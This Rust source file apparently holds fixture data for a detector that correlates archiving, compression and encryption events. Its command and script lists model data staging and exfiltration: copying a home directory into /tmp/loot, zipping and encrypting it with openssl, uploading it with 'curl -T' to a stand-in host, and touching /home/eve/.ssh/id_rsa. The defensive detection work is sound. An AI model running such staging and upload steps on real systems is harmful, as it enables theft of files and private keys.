//! What events of any kind name: programs, places, contents, code.

use correlator::UsePurpose;

/// Families, something of theirs, and what they do.
pub(super) const CODE: [(&str, &str, UsePurpose); 4] = [
    ("zlib", "deflateInit2_", UsePurpose::Compress),
    ("libarchive", "archive_write_open", UsePurpose::Archive),
    ("openssl", "EVP_EncryptInit_ex", UsePurpose::Encrypt),
    ("of no catalogue", "begin", UsePurpose::Archive),
];

/// Pieces of scripts.
pub(super) const SCRIPTS: [&str; 4] = [
    "Compress-Archive /tmp/loot /tmp/x.zip\n",
    "[IO.Compression.ZipFile]::CreateFromDirectory('/tmp/loot', '/tmp/x.zip')\n",
    "Expand-Archive /tmp/x.zip; $a = 'b'\n",
    "Copy-Item /home/eve -Destination /tmp/loot\n",
];

pub(super) const LIBRARY: &[u8] = b"/usr/lib/libarchive.so.13";

pub(super) const COMMANDS: [(&str, &str); 20] = [
    ("/bin/bash", "bash"),
    ("/bin/sh", "sh -s"),
    ("/usr/bin/tar", "tar czf /tmp/x.tgz docs"),
    ("/usr/bin/tar", "tar cf - docs"),
    ("/usr/bin/tar", "tar xf /tmp/x.tgz"),
    ("/usr/bin/gzip", "gzip"),
    ("/usr/bin/gzip", "gzip a"),
    ("/usr/bin/zip", "zip -P s -m /tmp/x.zip a b"),
    ("/usr/bin/openssl", "openssl enc -aes-256-cbc -k s"),
    (
        "/usr/bin/openssl",
        "openssl enc -aes-256-cbc -k s -in /tmp/x.zip -out /tmp/x.enc",
    ),
    ("/usr/bin/base64", "base64"),
    ("/usr/bin/cat", "cat /tmp/x.zip"),
    ("/usr/bin/cp", "cp a b /tmp/loot"),
    ("/usr/bin/curl", "curl -T /tmp/x.zip https://h/"),
    ("/usr/bin/ssh", "ssh h cat"),
    ("/usr/bin/python3.11", "python3 x.py"),
    ("/tmp/agent", "agent"),
    ("/usr/bin/id", "id"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/ps", "ps aux"),
];

pub(super) const DIRECTORIES: [&str; 5] = [
    "/home/eve",
    "/tmp",
    "/tmp/loot",
    "/home/eve/.ssh",
    "/var/log",
];

pub(super) const PATHS: [&str; 14] = [
    "/home/eve/a",
    "/home/eve/a.gz",
    "/home/eve/x.jpg",
    "/tmp/x.tgz",
    "/tmp/x.zip",
    "/tmp/x.enc",
    "/tmp/ziAbCdEf",
    "/tmp/loot/a",
    "/tmp/loot/b",
    "/tmp/loot/c",
    "/tmp/loot/d",
    "/home/eve/docs/a",
    "/home/eve/.ssh/id_rsa",
    "/dev/shm/out",
];

pub(super) const CONTENTS: [&str; 10] = [
    "none",
    "text",
    "report",
    "zip",
    "zip-encrypted",
    "gzip",
    "tar",
    "openssl",
    "random",
    "xor-text",
];
